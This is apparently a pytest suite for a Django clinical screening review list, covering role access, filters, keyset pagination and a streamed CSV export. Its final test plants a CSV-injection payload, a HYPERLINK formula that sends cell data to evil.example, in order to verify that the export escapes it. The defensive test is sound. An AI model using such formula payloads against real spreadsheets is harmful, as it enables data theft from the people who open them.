"""The reviewers' list of past screenings: who may see it, each filter, keyset pages and the
streamed CSV export (PostgreSQL)."""

import csv
import io
import re
from datetime import timedelta
from importlib import import_module

import pytest
from django.apps import apps as django_apps
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from rules.selectors import published_version
from screening.core.models import AuditEvent
from screening.models import Screening, ScreeningFlag
from screening.review.selectors import (
    InvalidCursor,
    ScreeningFilters,
    filtered_screenings,
    screening_page,
)
from screening.services import screening_sign
from tests.screening.review_helpers import copies, overridden_pregnancy, run

pytestmark = pytest.mark.django_db
LIST = reverse("screening:list")


def listed(client, user, **params):
    client.force_login(user)
    response = client.get(LIST, params)
    assert response.status_code == 200
    html = response.content.decode()
    return {s.uuid for s in Screening.objects.all() if f'data-screening="{s.uuid}"' in html}


# --- who may see it ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "screening:list",
        "screening:export_csv",
        "screening:audit",
        "screening:audit_verify",
        "screening:analytics",
    ],
)
def test_reviewer_pages_refuse_clinicians_rule_admins_and_outsiders(
    client, name, reviewer, clinician, rule_admin, outsider
):
    url = reverse(name)
    for user in (clinician, rule_admin, outsider):
        client.force_login(user)
        assert client.get(url).status_code == 403
    client.force_login(reviewer)
    assert client.get(url).status_code == 200


def test_anonymous_visitor_is_sent_to_login(client):
    response = client.get(LIST)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_the_nav_links_reviewers_to_the_list_and_not_clinicians(client, reviewer, clinician):
    client.force_login(reviewer)
    assert f'href="{LIST}"' in client.get(reverse("home")).content.decode()
    client.force_login(clinician)
    assert f'href="{LIST}"' not in client.get(reverse("home")).content.decode()


# --- filters ------------------------------------------------------------------------------------


def test_unfiltered_list_shows_every_screening(client, reviewer, clinician):
    made = {run(clinician).uuid, run(clinician, pregnancy_status="pregnant").uuid}
    assert listed(client, reviewer) == made


def test_filter_by_clinician(client, reviewer, clinician, other_clinician):
    mine = run(clinician)
    theirs = run(other_clinician)
    assert listed(client, reviewer, clinician=other_clinician.username) == {theirs.uuid}
    assert listed(client, reviewer, clinician=clinician.username) == {mine.uuid}


def test_filters_name_people_and_versions_not_primary_keys(client, reviewer, clinician):
    """Finding 10: the filter form's values were users' and versions' primary keys."""
    screening = run(clinician)
    version = published_version()
    client.force_login(reviewer)
    page = client.get(LIST).content.decode()
    people = re.search(r'<select name="clinician".*?</select>', page, re.S).group(0)
    versions = re.search(r'<select name="version".*?</select>', page, re.S).group(0)
    assert re.findall(r'value="([^"]*)"', people) == ["", clinician.username]
    assert f"ketamine-{version.number}" in re.findall(r'value="([^"]*)"', versions)
    assert all(not v.isdigit() for v in re.findall(r'value="([^"]*)"', people + versions))
    assert listed(client, reviewer, clinician=clinician.pk) != {screening.uuid}


def test_filter_by_disposition(client, reviewer, clinician):
    eligible = run(clinician)
    stop = run(clinician, pregnancy_status="pregnant")
    assert eligible.disposition == "eligible"
    assert listed(client, reviewer, disposition="contraindicated") == {stop.uuid}
    assert listed(client, reviewer, disposition="eligible") == {eligible.uuid}


def test_filter_by_urgent(client, reviewer, clinician):
    urgent = run(
        clinician,
        cssrs_wish_dead=True,
        cssrs_active_thoughts=True,
        cssrs_method=True,
        cssrs_intent=True,
        cssrs_plan=False,
    )
    calm = run(clinician)
    assert urgent.urgent
    assert not calm.urgent
    assert listed(client, reviewer, urgent="yes") == {urgent.uuid}
    assert listed(client, reviewer, urgent="no") == {calm.uuid}


def test_filter_by_rule_fired(client, reviewer, clinician):
    stop = run(clinician, pregnancy_status="pregnant")
    run(clinician)
    assert listed(client, reviewer, rule_id="STOP-PREGNANCY") == {stop.uuid}
    assert listed(client, reviewer, rule_id="NO-SUCH-RULE") == set()


def test_filter_by_overridden_stop(client, reviewer, clinician):
    overridden = overridden_pregnancy(clinician)
    run(clinician, pregnancy_status="pregnant")  # the stop fired but nobody overrode it
    run(clinician)
    assert listed(client, reviewer, overridden_stop="on") == {overridden.uuid}


def test_filter_by_signed(client, reviewer, clinician):
    signed = overridden_pregnancy(clinician, sign=True)
    unsigned = run(clinician)
    assert listed(client, reviewer, signed="yes") == {signed.uuid}
    assert listed(client, reviewer, signed="no") == {unsigned.uuid}


def test_filter_by_rule_set_version(client, reviewer, clinician):
    screening = run(clinician)
    version = published_version()
    assert listed(client, reviewer, version=f"ketamine-{version.number}") == {screening.uuid}
    response = client.get(LIST, {"version": "ketamine-999999"})
    assert "Select a valid choice" in response.content.decode()


def test_filter_by_date_range_counts_whole_days(client, reviewer, clinician):
    template = run(clinician)
    now = timezone.localtime()
    old = copies(template, 1, run_at=now - timedelta(days=10))[0]
    today = now.date()
    assert listed(client, reviewer, date_to=(today - timedelta(days=10)).isoformat()) == {old.uuid}
    assert listed(client, reviewer, date_from=today.isoformat()) == {template.uuid}
    both = listed(
        client,
        reviewer,
        date_from=(today - timedelta(days=10)).isoformat(),
        date_to=today.isoformat(),
    )
    assert both == {old.uuid, template.uuid}


def test_a_range_ending_before_it_starts_is_an_error(client, reviewer):
    client.force_login(reviewer)
    html = client.get(LIST, {"date_from": "2026-11-10", "date_to": "2026-11-01"}).content.decode()
    assert "The end date must not be before the start date." in html


# --- keyset pages -------------------------------------------------------------------------------


@pytest.mark.parametrize("descending", [True, False])
def test_keyset_pages_cover_every_screening_once_in_order_even_with_ties(
    reviewer, clinician, descending
):
    template = run(clinician)
    tied = copies(template, 7, run_at=timezone.now() - timedelta(hours=1))
    spread = copies(template, 20)
    filters = ScreeningFilters(descending=descending)
    screenings = filtered_screenings(reviewer, filters)
    seen, cursor, pages = [], "", 0
    while True:
        page = screening_page(screenings, cursor=cursor, descending=descending, size=6)
        seen.extend(page.rows)
        pages += 1
        if not page.next_cursor:
            break
        cursor = page.next_cursor
    keys = [(s.run_at, s.pk) for s in seen]
    assert len(seen) == 1 + len(tied) + len(spread)
    assert len(set(keys)) == len(keys)
    assert keys == sorted(keys, reverse=descending)
    assert pages == 5


def test_a_screening_run_between_pages_neither_repeats_nor_shifts_later_pages(reviewer, clinician):
    template = run(clinician)
    copies(template, 10)
    screenings = filtered_screenings(reviewer, ScreeningFilters())
    first = screening_page(screenings, cursor="", descending=True, size=4)
    run(clinician)  # newer than everything: belongs before page one
    second = screening_page(
        filtered_screenings(reviewer, ScreeningFilters()),
        cursor=first.next_cursor,
        descending=True,
        size=4,
    )
    assert not {s.pk for s in first.rows} & {s.pk for s in second.rows}
    assert second.rows[0].run_at <= first.rows[-1].run_at


def test_the_list_links_the_next_page_with_an_opaque_cursor(client, reviewer, clinician):
    template = run(clinician)
    copies(template, 60)
    client.force_login(reviewer)
    html = client.get(LIST, {"disposition": "eligible"}).content.decode()
    assert html.count('data-testid="screening-row"') == 50
    assert 'id="next-page"' in html
    start = html.index('id="next-page" href="?') + len('id="next-page" href="?')
    query = html[start : html.index('"', start)].replace("&amp;", "&")
    assert "disposition=eligible" in query
    second = client.get(f"{LIST}?{query}").content.decode()
    assert second.count('data-testid="screening-row"') == 11
    assert 'id="next-page"' not in second


def test_a_forged_cursor_is_refused(reviewer, clinician):
    run(clinician)
    screenings = filtered_screenings(reviewer, ScreeningFilters())
    with pytest.raises(InvalidCursor):
        screening_page(screenings, cursor="not-a-cursor!", descending=True)


def test_a_forged_cursor_on_the_page_falls_back_to_page_one(client, reviewer, clinician):
    screening = run(clinician)
    client.force_login(reviewer)
    html = client.get(LIST, {"cursor": "Zm9v"}).content.decode()
    assert "That page link is not valid any more" in html
    assert f'data-screening="{screening.uuid}"' in html


def test_the_list_is_empty_for_anyone_but_reviewers(clinician):
    run(clinician)
    assert not filtered_screenings(clinician, ScreeningFilters()).exists()


# --- CSV export ---------------------------------------------------------------------------------


def test_csv_export_streams_the_filtered_list_and_is_audited(client, reviewer, clinician):
    overridden = overridden_pregnancy(clinician)
    run(clinician)
    client.force_login(reviewer)

    response = client.get(reverse("screening:export_csv"), {"overridden_stop": "on"})

    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row["screening"] for row in rows] == [str(overridden.uuid)]
    assert rows[0]["mrn"] == overridden.patient.mrn
    assert rows[0]["disposition"] == "contraindicated"
    assert "STOP-PREGNANCY" in rows[0]["flags"]
    event = AuditEvent.objects.filter(action="export.csv").get()
    assert event.actor == reviewer
    assert event.detail["filters"]["overridden_stop"] is True


def test_csv_export_does_not_carry_the_facts(client, reviewer, clinician):
    run(clinician, pregnancy_status="pregnant")
    client.force_login(reviewer)
    body = b"".join(client.get(reverse("screening:export_csv")).streaming_content).decode()
    assert "pregnancy_status" not in body
    assert "phq9" not in body


def test_csv_export_names_the_facts_each_result_missed_without_their_values(
    client, reviewer, clinician
):
    unasked = run(clinician, bladder_symptoms_or_cystitis=None, planned_formulation="")
    answered = run(clinician)
    client.force_login(reviewer)
    body = b"".join(client.get(reverse("screening:export_csv")).streaming_content).decode()
    rows = {row["screening"]: row for row in csv.DictReader(io.StringIO(body))}
    assert rows[str(unasked.uuid)]["missing"] == "bladder_symptoms_or_cystitis planned_formulation"
    assert rows[str(answered.uuid)]["missing"] == ""
    assert rows[str(answered.uuid)]["version"] == "2"


def test_signed_screening_shows_as_signed_in_the_csv(client, reviewer, clinician):
    screening = overridden_pregnancy(clinician)
    screening_sign(screening=screening, user=clinician)
    client.force_login(reviewer)
    body = b"".join(client.get(reverse("screening:export_csv")).streaming_content).decode()
    row = next(csv.DictReader(io.StringIO(body)))
    assert row["status"] == "signed"
    assert row["signed_by"] == clinician.username


def test_the_list_page_costs_the_same_queries_for_one_row_or_fifty(
    client, reviewer, clinician, django_assert_max_num_queries
):
    template = run(clinician, pregnancy_status="pregnant")
    client.force_login(reviewer)
    with CaptureQueriesContext(connection) as one:
        client.get(LIST)
    copies(template, 60)
    with django_assert_max_num_queries(len(one)):
        client.get(LIST)


def test_the_backfill_migration_rebuilds_fired_flags_with_their_reviews(reviewer, clinician):
    overridden = overridden_pregnancy(clinician)
    plain = run(clinician)
    expected = set(
        ScreeningFlag.objects.values_list("screening_id", "rule_id", "severity", "review_kind")
    )
    ScreeningFlag.objects.all().delete()

    import_module("screening.migrations.0009_backfill_screening_flags").backfill(django_apps, None)

    rebuilt = set(
        ScreeningFlag.objects.values_list("screening_id", "rule_id", "severity", "review_kind")
    )
    assert rebuilt == expected
    assert (overridden.pk, "STOP-PREGNANCY", "stop", "overridden") in rebuilt
    assert all(screening_id != plain.pk or kind == "" for screening_id, _, _, kind in rebuilt)


def test_csv_export_writes_formula_like_text_as_text(client, reviewer, clinician):
    """A name or MRN typed as `=HYPERLINK(…)` opens in a spreadsheet as the text that was typed,
    not as a live formula (OWASP CSV injection): the cell starts with an apostrophe."""
    screening = run(clinician)
    patient = screening.patient
    patient.family_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    patient.given_names = "@SUM(1+1)"
    patient.mrn = "+44-7700"
    patient.save(update_fields=["family_name", "given_names", "mrn"])
    screening.intake.amendment_reason = "\t-2+3"
    screening.intake.save(update_fields=["amendment_reason"])
    client.force_login(reviewer)

    body = b"".join(client.get(reverse("screening:export_csv")).streaming_content).decode()

    row = next(csv.DictReader(io.StringIO(body)))
    assert row["patient"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click"), @SUM(1+1)'
    assert row["mrn"] == "'+44-7700"
    assert row["amendment_reason"] == "'\t-2+3"
    assert row["clinician"] == clinician.username  # ordinary text is left alone
